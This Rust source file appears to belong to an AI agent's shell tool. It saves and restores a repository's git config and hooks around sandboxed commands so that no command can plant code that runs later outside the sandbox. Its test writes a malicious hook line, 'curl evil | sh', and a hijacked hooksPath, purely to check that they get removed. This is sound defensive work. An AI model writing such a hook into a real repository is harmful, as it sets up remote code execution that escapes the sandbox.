//! Git's hooks and `.git/config` run commands later, outside the sandbox (a hook on the
//! next commit, `core.hooksPath`, `core.fsmonitor`, aliases). Landlock cannot keep them
//! read-only inside a writable workspace, so the shell tool takes a copy before a
//! sandboxed command and puts back whatever the command changed there.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// Most files and bytes guarded (a hooks folder is a few small scripts).
const MAX_FILES: usize = 200;
const MAX_BYTES: u64 = 4 * 1024 * 1024;

/// The guarded files of one repository as they were: content and permission bits.
#[derive(Debug)]
pub struct GitGuard {
    git: PathBuf,
    files: BTreeMap<PathBuf, (Vec<u8>, u32)>,
}

impl GitGuard {
    /// A copy of `workspace/.git/config` and `.git/hooks/*`, if the workspace holds a
    /// repository (and they are small enough to copy).
    pub fn take(workspace: &Path) -> Option<GitGuard> {
        let git = workspace.join(".git");
        if !git.is_dir() {
            return None;
        }
        let mut files = BTreeMap::new();
        let mut total = 0u64;
        let mut candidates = vec![git.join("config")];
        if let Ok(entries) = std::fs::read_dir(git.join("hooks")) {
            candidates.extend(entries.flatten().map(|e| e.path()));
        }
        for path in candidates.into_iter().take(MAX_FILES) {
            let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
            if !meta.is_file() {
                continue;
            }
            total += meta.len();
            if total > MAX_BYTES {
                return None;
            }
            let content = std::fs::read(&path).ok()?;
            files.insert(path, (content, meta.permissions().mode()));
        }
        Some(GitGuard { git, files })
    }

    /// Puts back every guarded file the command changed or removed, and removes hooks it
    /// added. Returns the paths it restored, relative to the repository's `.git`.
    pub fn restore(&self) -> Vec<String> {
        let mut restored = Vec::new();
        let name = |path: &Path| format!(".git/{}", path.strip_prefix(&self.git).unwrap_or(path).display());
        for (path, (content, mode)) in &self.files {
            let now = std::fs::symlink_metadata(path).ok();
            let same = now.as_ref().is_some_and(|m| m.is_file() && m.permissions().mode() == *mode)
                && std::fs::read(path).is_ok_and(|c| c == *content);
            if !same {
                if now.is_some_and(|m| m.is_dir()) {
                    let _ = std::fs::remove_dir_all(path);
                } else {
                    let _ = std::fs::remove_file(path);
                }
                if std::fs::write(path, content).is_ok() {
                    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode));
                }
                restored.push(name(path));
            }
        }
        if let Ok(entries) = std::fs::read_dir(self.git.join("hooks")) {
            for entry in entries.flatten() {
                let path = entry.path();
                if !self.files.contains_key(&path) && path.extension().is_none_or(|e| e != "sample") {
                    let _ = std::fs::remove_file(&path).or_else(|_| std::fs::remove_dir_all(&path));
                    restored.push(name(&path));
                }
            }
        }
        restored
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn changed_and_added_hooks_and_config_are_put_back() {
        let dir = tempfile::tempdir().unwrap();
        let git = dir.path().join(".git");
        std::fs::create_dir_all(git.join("hooks")).unwrap();
        std::fs::write(git.join("config"), "[core]\n").unwrap();
        std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        let guard = GitGuard::take(dir.path()).unwrap();
        assert!(guard.restore().is_empty());
        std::fs::write(git.join("config"), "[core]\nhooksPath = evil\n").unwrap();
        std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let restored = guard.restore();
        assert_eq!(restored, vec![".git/config", ".git/hooks/pre-commit"]);
        assert_eq!(std::fs::read_to_string(git.join("config")).unwrap(), "[core]\n");
        assert!(!git.join("hooks/pre-commit").exists());
        assert!(git.join("hooks/pre-commit.sample").exists());
        assert!(GitGuard::take(&dir.path().join("nope")).is_none());
    }
}
